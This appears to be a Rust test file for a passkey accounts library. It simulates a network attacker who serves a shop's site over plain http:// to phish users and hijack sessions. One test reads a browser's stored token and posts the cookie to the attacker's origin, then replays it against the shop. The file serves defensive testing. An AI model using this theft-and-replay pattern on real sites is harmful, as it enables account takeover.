//! A network of the attacker's. It cannot read what goes over TLS, but it shows what it likes under `http://` of the site's
//! own name.

use passkey_accounts::defence::{Defence, without};
use passkey_accounts_tests::{
    chromium::Chromium,
    raw::Identity,
    shop::{Carried, Shop},
};

use super::{
    Outcome, THEFT, acted, attack, held, is_ours,
    mallory::{Mallory, Victim},
    phishing::{FORM, hijack, phish},
};

/// The network shows `http://` of the shop's name, and whoever comes there types in or signs what it asks for.
async fn shown_without_tls(browser: &Chromium, shop: &Shop) -> Outcome {
    let mallory = Mallory::start(FORM, "").await;
    let origin = mallory.origin(&shop.host);
    phish(browser, shop, mallory, &origin).await
}

#[tokio::test]
async fn the_network_shows_the_site_without_tls() {
    let identity = Identity::make();
    let browser = Chromium::launch_trusting(&[&identity], None).await.unwrap();
    attack("plain", async |build| {
        // The site has not told this browser yet.
        let _down = without(Defence::StrictTransport);
        shown_without_tls(&browser, &Shop::open_over_tls(build, &identity).await).await
    })
    .await;
}

#[tokio::test]
async fn the_network_shows_the_site_without_tls_to_a_browser_that_has_been_there() {
    let identity = Identity::make();
    attack("plainAgain", async |build| {
        // One that knows nothing of the shops before.
        let browser = Chromium::launch_trusting(&[&identity], None).await.unwrap();
        shown_without_tls(&browser, &Shop::open_over_tls(build, &identity).await).await
    })
    .await;
}

#[tokio::test]
async fn a_browser_takes_what_the_network_shows_for_secure() {
    let identity = Identity::make();
    attack("plainTrusted", async |build| {
        let _down = without(Defence::StrictTransport);
        let shop = Shop::open_over_tls(build, &identity).await;
        let mallory = Mallory::start(FORM, "").await;
        let origin = mallory.origin(&shop.host);
        let browser = Chromium::launch_trusting(&[&identity], Some(&origin)).await.unwrap();
        phish(&browser, &shop, mallory, &origin).await
    })
    .await;
}

#[tokio::test]
async fn the_network_looks_for_the_session_of_somebody_who_is_signed_in() {
    let identity = Identity::make();
    let browser = Chromium::launch_trusting(&[&identity], None).await.unwrap();
    attack("plainSession", async |build| {
        let _down = without(Defence::StrictTransport);
        let shop = Shop::open_over_tls(build, &identity).await;
        if is_ours(build) {
            return hijack(&browser, &shop, |mallory| mallory.origin(&shop.host)).await;
        }
        let victim = Victim::sign_up(&browser, &shop).await;
        let mut mallory = Mallory::start("", "").await;
        let page = browser.open(&mallory.origin(&shop.host)).await.unwrap();
        let stored = page.evaluate("localStorage.token ?? null").await.unwrap();
        page.evaluate("fetch('/headers', { method: 'POST' }).then(() => 0)").await.unwrap();
        let headers = mallory.loot().await;
        let cookie = headers["cookie"].as_str().and_then(|cookie| cookie.split_once('='));
        let Some(token) = stored.as_str().or(cookie.map(|(_, token)| token)) else {
            return held(if build.has_cookies() {
                "the cookie does not come along"
            } else {
                "nothing is stored there"
            });
        };
        shop.send(&shop.carrying(&Carried::Token(token.to_owned()), "/act", THEFT)).await;
        acted(&shop, &victim.name, "the cookie comes along", "of no use elsewhere")
    })
    .await;
}
